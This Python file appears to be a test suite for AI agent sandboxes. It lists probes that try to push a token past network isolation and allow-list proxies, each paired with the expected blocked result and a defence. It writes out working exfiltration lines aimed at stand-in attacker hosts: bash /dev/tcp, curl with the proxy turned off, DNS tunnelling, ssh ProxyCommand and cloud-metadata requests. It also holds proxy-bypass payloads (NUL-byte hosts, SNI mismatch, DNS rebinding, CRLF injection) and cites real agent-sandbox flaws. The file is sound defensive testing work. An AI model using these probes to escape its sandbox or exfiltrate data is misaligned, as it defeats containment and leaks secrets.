from probe_runner import *

klass('K', 'Direct network egress (no allow-list entry for the target)',
      correct='ENETUNREACH/EPERM/ECONNREFUSED inside; nothing arrives at the sink.',
      defence='empty network namespace + one proxied channel (unix socket or fd); seccomp socket() family/type/protocol filter; Landlock CONNECT_TCP/BIND_TCP only as backup (TCP only, UDP not before ABI 10).')
EV = lambda c, p, r, t: c.sinks.seen(t)


def k(id, title, run, ref, check=EV, lang='py', **kw):
    probe(id, title, run, lang=lang, check=check, ref=ref, oracle='token arrived at the sink', **kw)


k('K01', 'TCP to a public IPv4, port 80', 'tcp("@EVIL4@",80,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n").recv(9)', 'empathic/clash#113 (net rules not enforced)')
k('K02', 'TCP port 443', 'tcp("@EVIL4@",443,b"@TOK@"); time.sleep(.3)', 'clash AllowDomains on Linux is advisory: programs ignoring HTTP_PROXY reach any host (source read)')
k('K03', 'TCP port 22 (ssh exfil)', 'tcp("@EVIL4@",22,b"@TOK@"); time.sleep(.3)', 'git over ssh')
k('K04', 'TCP port 25 (mail)', 'tcp("@EVIL4@",25,b"@TOK@"); time.sleep(.3)', 'spam/exfil')
k('K05', 'TCP over IPv6', 'tcp("@EVIL6@",80,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n").recv(9)', 'v4-only firewalls')
k('K06', 'IPv4-mapped IPv6 address', 'tcp("::ffff:@EVIL4@",80,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n",fam=socket.AF_INET6).recv(9)', 'NVIDIA/OpenShell#59 lists it')
k('K07', 'UDP', 'socket.socket(2,2).sendto(b"@TOK@",("@EVIL4@",9999)); time.sleep(.3)', 'navikt/cplt#255/#241 (Landlock gates UDP only from ABI 10)')
k('K08', 'UDP over IPv6', 'socket.socket(10,2).sendto(b"@TOK@",("@EVIL6@",9999)); time.sleep(.3)', 'navikt/cplt#255')
k('K09', 'UDP 443 (QUIC)', 'socket.socket(2,2).sendto(b"@TOK@",("@EVIL4@",443)); time.sleep(.3)', 'RisorseArtificiali/lince#218 (UDP/QUIC not covered by Landlock)')
k('K10', 'DNS query sent to an attacker resolver', 'socket.socket(2,2).sendto(b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"+bytes([len("@TOK@")])+b"@TOK@"+b"\\4evil\\4test\\0\\0\\1\\0\\1",("@EVIL4@",53)); time.sleep(.3)', 'CVE-2025-55284 (Claude Code ping/nslookup DNS exfiltration); microsandbox#675', check=lambda c, p, r, t: c.sinks.dns_seen(t))
k('K11', 'DNS exfiltration through the system resolver (getaddrinfo)', 'socket.getaddrinfo("@TOK@.evil.test",80)', 'microsandbox#675; BeyondTrust AWS AgentCore; lucidagentide#229', check=lambda c, p, r, t: c.sinks.dns_seen(t), defence='no resolver inside; names resolved by the proxy after the policy decision')
k('K12', 'DNS over TCP', 'q=b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"+bytes([len("@TOK@")])+b"@TOK@"+b"\\4evil\\4test\\0\\0\\1\\0\\1"; tcp("@EVIL4@",53,struct.pack(">H",len(q))+q).recv(9)', 'same', check=lambda c, p, r, t: c.sinks.dns_seen(t))
k('K13', 'a host service on 127.0.0.1', 'tcp("127.0.0.1",8080,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n").recv(9)', 'sandy: host loopback services are an asset; DB, dev servers, agents')
k('K14', 'a host service on ::1', 'tcp("::1",8080,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n").recv(9)', 'same')
k('K15', '0.0.0.0 as an alias of localhost', 'tcp("0.0.0.0",8080,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n").recv(9)', 'SSRF classics')
k('K16', 'cloud metadata 169.254.169.254', 'tcp("@META4@",80,b"GET /latest/meta-data/@TOK@ HTTP/1.0\\r\\n\\r\\n").recv(99)', 'onyx#12242; vibeD#87')
k('K17', 'RFC 1918 address', 'tcp("@PRIV4@",80,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n").recv(9)', 'onyx#12242; lastlight#63')
k('K18', 'sendto(MSG_FASTOPEN) connects without connect(2)', 's=socket.socket(); s.sendto(b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n",0x20000000,("@EVIL4@",80)); time.sleep(.4)', 'landlock-lsm/linux#41 (open; no LSM hook sees it); KubeArmor#1254', defence='network namespace; Landlock fixed later; seccomp on sendto flags is not enough')
k('K19', 'MPTCP socket (IPPROTO_MPTCP)', 's=socket.socket(2,1,262); s.settimeout(3); s.connect(("@EVIL4@",80)); s.sendall(b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n"); time.sleep(.4)', 'landlock-lsm/linux#54 (open 2026: MPTCP bypasses CONNECT_TCP/BIND_TCP)')
k('K20', 'sendmmsg UDP', 'class I(ctypes.Structure): _fields_=[("b",ctypes.c_char_p),("l",ctypes.c_size_t)]\nclass M(ctypes.Structure): _fields_=[("n",ctypes.c_void_p),("nl",ctypes.c_uint),("i",ctypes.POINTER(I)),("il",ctypes.c_size_t),("c",ctypes.c_void_p),("cl",ctypes.c_size_t),("f",ctypes.c_int),("r",ctypes.c_uint)]\na=ctypes.create_string_buffer(struct.pack("<H",2)+struct.pack(">H",9999)+socket.inet_aton("@EVIL4@")+b"\\0"*8,16); i=I(b"@TOK@",14); m=M(ctypes.addressof(a),16,ctypes.pointer(i),1,None,0,0,0)\ns=socket.socket(2,2); print(libc.sendmmsg(s.fileno(),ctypes.byref(m),1,0)); time.sleep(.3)', 'filters that list sendto/sendmsg only')
k('K21', 'bash /dev/tcp', 'exec 3<>/dev/tcp/@EVIL4@/80; printf "GET /@TOK@ HTTP/1.0\\r\\n\\r\\n" >&3; head -c1 <&3 >/dev/null', 'deny lists of curl/wget', lang='sh')
k('K22', 'curl --noproxy "*"', 'env -u http_proxy -u HTTP_PROXY -u ALL_PROXY curl -s -m 3 --noproxy "*" http://@EVIL4@/@TOK@', 'proxy by environment variable only', lang='sh', needs=('curl',))
k('K23', 'ICMP echo (ping socket)', 's=socket.socket(2,2,1); s.settimeout(2); s.sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\1@TOK@",("@EVIL4@",0)); r=s.recv(99); print("ESCAPED" if b"@TOK@" in r else "BLOCKED")', 'CVE-2025-55284 (ping allow-listed)', check=None)
k('K24', 'listen on all interfaces and be reached from the host (reverse channel)', 's=socket.socket(); s.setsockopt(1,2,1); s.bind(("0.0.0.0",47001)); s.listen(5); s.settimeout(5)\ntry: c,_=s.accept(); print("ACCEPTED @TOK@")\nexcept OSError as e: print(e)', 'deer-flow#4986 (bind 0.0.0.0)', check=lambda c, p, r, t: 'ACCEPTED' in r.out, pre=lambda c, p, t: _dial(47001), timeout=9)
k('K25', 'multicast / broadcast UDP (mDNS)', 's=socket.socket(2,2); s.setsockopt(0,32,socket.inet_aton("127.0.0.1")); s.sendto(b"@TOK@",("127.255.255.255",5353)) if s.setsockopt(1,6,1) is None else 0; time.sleep(.3)', 'LAN discovery')
k('K26', 'netlink route dump reveals the host interfaces', 'import socket as S\ns=S.socket(16,3,0); s.send(struct.pack("IHHIIB",17,22,0x301,1,0,2)+b"\\0"*3); d=s.recv(65536); print("ESCAPED" if socket.inet_aton("10.200.0.1") in d else "BLOCKED")', 'recon', check=None, defence='network namespace')
k('K27', 'SSH client with ProxyCommand', 'timeout 4 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ProxyCommand="bash -c \'exec 3<>/dev/tcp/@EVIL4@/22; printf @TOK@ >&3; sleep 1\'" x@evil.test', 'ssh as exfil tool', lang='sh')
k('K28', 'git fetch over git://', 'timeout 5 git ls-remote git://@EVIL4@/@TOK@', 'git as exfil tool', lang='sh', needs=('git',))


def _dial(port):
    def f():
        t0 = time.time()
        while time.time() - t0 < 6:
            for a in ('127.0.0.1', HOST4):
                try:
                    socket.create_connection((a, port), 0.3).close()
                    return
                except OSError:
                    pass
            time.sleep(0.2)
    threading.Thread(target=f, daemon=True).start()


klass('L', 'Allow-list proxy bypasses (policy: allowed.test and *.allowed.test, ports 80/443; everything else denied)',
      correct='403/refused by the proxy (or no network at all): no bytes reach a host other than an allowed public address; no DNS query for a denied name.',
      defence='One parser; exact/suffix match on the normalised name (lower-case, no trailing dot, no NUL/control/userinfo, no IP literals unless listed); decide, then resolve once, reject private/loopback/link-local/mapped, connect to that IP; port allow-list; every request on a kept-alive connection re-checked; Host==authority; SNI==CONNECT host (peek ClientHello, refuse non-TLS on 443); optional TLS interception for shared CDNs.')
EVD = lambda c, p, r, t: c.sinks.seen(t, dst=EVILSET)


def l(id, title, run, ref, check=EVD, **kw):
    probe(id, title, run, lang='py', check=check, ref=ref, oracle=kw.pop('oracle', 'token arrived at a denied address'), **kw)


l('L01', 'CONNECT evil.test:443 (plain deny check)', 'connect_via("evil.test",443,b"@TOK@",("@EVIL4@",443))', 'claude-code#89165 (CONNECT not enforced)')
l('L02', 'absolute-form GET http://evil.test/ (plain HTTP not filtered)', 'proxied(b"GET http://evil.test/@TOK@ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n",("@EVIL4@",80))', 'yurukusa cc-safe-setup: srt filtered CONNECT only')
l('L03', 'CONNECT allowed.test:22', 'connect_via("allowed.test",22,b"@TOK@",("@ALLOWED4@",22))', 'squid Safe_ports rationale', check=lambda c, p, r, t: c.sinks.seen(t, port=22), oracle='token arrived on port 22')
l('L04', 'CONNECT allowed.test:25', 'connect_via("allowed.test",25,b"@TOK@",("@ALLOWED4@",25))', 'open relay', check=lambda c, p, r, t: c.sinks.seen(t, port=25), oracle='token arrived on port 25')
l('L05', 'CONNECT to an IP literal', 'connect_via("@EVIL4@",443,b"@TOK@",("@EVIL4@",443))', 'OpenHands#3100')
l('L06', 'CONNECT to the metadata service', 'connect_via("@META4@",80,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n",("@META4@",80))', 'onyx#12242')
l('L07', 'CONNECT localhost / 127.0.0.1 / [::1] / 0.0.0.0', '[connect_via(h,8080,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n",("127.0.0.1",8080)) for h in ("localhost","127.0.0.1","[::1]","0.0.0.0")]', 'navikt/cplt#92')
l('L08', 'decimal / hex / octal / short IPv4 forms', '[connect_via(h,8080,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n",("127.0.0.1",8080)) for h in ("2130706433","0x7f000001","0177.0.0.1","127.1")]', 'SSRF filter classics')
l('L09', 'IPv4-mapped IPv6 literal', 'connect_via("[::ffff:@META4@]",80,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n",("@META4@",80))', 'NVIDIA/OpenShell#59')
l('L10', 'domain fronting over plain HTTP: URI allowed.test, Host: evil.test', 'proxied(b"GET http://allowed.test/@TOK@ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n",("@ALLOWED4@",80))', 'microsandbox#709; Claude Code docs admit fronting (agentpatterns.ai)', check=lambda c, p, r, t: c.sinks.raw_seen(lambda d: t.encode() in d and b'host: evil.test' in d.lower()), oracle='front received Host: evil.test')
l('L11', 'SNI mismatch inside CONNECT allowed.test:443', 'sni=b"@TOK@.evil.test"; ext=struct.pack(">HHHBH",0,len(sni)+5,len(sni)+3,0,len(sni))+sni; b=b"\\3\\3"+b"R"*32+b"\\0"+b"\\0\\2\\x13\\1"+b"\\1\\0"+struct.pack(">H",len(ext))+ext; h=b"\\1"+struct.pack(">I",len(b))[1:]+b; connect_via("allowed.test",443,b"\\x16\\3\\1"+struct.pack(">H",len(h))+h,("@ALLOWED4@",443))', 'Wide-Moat/open-computer-use#198; microsandbox#709', check=lambda c, p, r, t: c.sinks.seen(t), oracle='ClientHello with a foreign SNI reached the front')
l('L12', 'non-TLS protocol inside CONNECT allowed.test:443 (ssh over 443)', 'connect_via("allowed.test",443,b"SSH-2.0-@TOK@\\r\\n",("@ALLOWED4@",443))', 'tunnel abuse', check=lambda c, p, r, t: c.sinks.seen(t), tier=2, oracle='raw bytes reached the front')
l('L13', 'suffix confusion: evilallowed.test', 'connect_via("evilallowed.test",443,b"@TOK@",("@EVIL4@",443))', 'endsWith("allowed.test")')
l('L14', 'prefix confusion: allowed.test.evil.test', 'connect_via("allowed.test.evil.test",443,b"@TOK@",("@EVIL4@",443))', 'CVE-2026-24052 (Claude Code WebFetch startsWith)')
l('L15', 'unescaped dot in a regex: allowedxtest', 'connect_via("allowedxtest",443,b"@TOK@",("@EVIL4@",443))', 'regex lists')
l('L16', 'trailing dot and case variants of a denied name', '[connect_via(h,443,b"@TOK@",("@EVIL4@",443)) for h in ("evil.test.","EVIL.test","evil.TEST.")]', 'PizzaPi#865 edge-case domains')
l('L17', 'SOCKS5 host name with a NUL byte (evil.test\\0.allowed.test)', 'p=px(True)\nif not p: connect_via("evil.test",443,b"@TOK@",("@EVIL4@",443))\nelse:\n  s=socks5(p); h=b"evil.test\\0.allowed.test"; s.sendall(b"\\5\\1\\0\\3"+bytes([len(h)])+h+b"\\1\\xbb"); r=s.recv(99); print(r); talk(s,b"@TOK@",2)', 'sandbox-runtime SOCKS5 null-byte bypass (Aonan Guan; Claude Code 2.0.24-2.1.89)')
l('L18', 'CONNECT host with an embedded NUL / space / userinfo', '[connect_via(h,443,b"@TOK@",("@EVIL4@",443)) for h in (b"evil.test\\0.allowed.test",b"allowed.test@evil.test",b"evil.test\\t.allowed.test",b"evil.test#.allowed.test",b"evil.test%00.allowed.test")]', 'same parser-differential class')
l('L19', 'userinfo trick: http://allowed.test@evil.test/', 'proxied(b"GET http://allowed.test@evil.test/@TOK@ HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n",("@EVIL4@",80))', 'URL parser differentials')
l('L20', 'second request on the kept-alive proxy connection goes to evil.test', 'proxied(b"GET http://allowed.test/pipeline HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET http://evil.test/@TOK@ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n",("@EVIL4@",80))', 'first-request-only checks')
l('L21', 'redirect from allowed.test to evil.test followed by the client', 'import urllib.request as u; u.urlopen("http://allowed.test/redir?t=@TOK@",timeout=4).read()', 'redirect following', check=lambda c, p, r, t: c.sinks.seen(t, dst=(EVIL4, EVIL6)), oracle='redirected request reached evil')
l('L22', 'DNS rebinding: rebind.allowed.test -> 169.254.169.254', 'connect_via("rebind.allowed.test",80,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n",("@META4@",80))', 'openclaw/crabbox#912; vibeD#87; navikt/cplt#92')
l('L23', 'DNS rebinding to loopback and RFC 1918', 'connect_via("loop.allowed.test",8080,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n",("127.0.0.1",8080)); connect_via("priv.allowed.test",80,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n",("@PRIV4@",80))', 'crabbox#912')
l('L24', 'check/use flip: name resolves to a good address first, to metadata later', '[connect_via("flip.allowed.test",80,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n",("@META4@",80)) for i in range(4)]', 'resolve-twice TOCTOU (vibeD#87)')
l('L25', 'AAAA answer with an IPv4-mapped metadata address', 'connect_via("mapped.allowed.test",80,b"GET /@TOK@ HTTP/1.0\\r\\n\\r\\n",("@META4@",80))', 'OpenShell#59')
l('L26', 'DNS exfiltration through the proxy: CONNECT <data>.evil.test', 'connect_via("@TOK@.evil.test",443,b"x",("@EVIL4@",443)) if px() else socket.getaddrinfo("@TOK@.evil.test",443)', 'policy must be decided before resolving', check=lambda c, p, r, t: c.sinks.dns_seen(t), oracle='DNS query for the denied name observed')
l('L27', 'CRLF / header injection in CONNECT', 'connect_via(b"allowed.test:443 HTTP/1.1\\r\\nX: y\\r\\n\\r\\nCONNECT evil.test",443,b"@TOK@",("@EVIL4@",443))', 'request smuggling')
l('L28', 'SOCKS5 with an IP literal / UDP ASSOCIATE', 'p=px(True)\nif not p: connect_via("@EVIL4@",443,b"@TOK@",("@EVIL4@",443))\nelse:\n  s=socks5(p); s.sendall(b"\\5\\1\\0\\1"+socket.inet_aton("@EVIL4@")+b"\\1\\xbb"); print(s.recv(99)); talk(s,b"@TOK@",2)', 'srt SOCKS path')
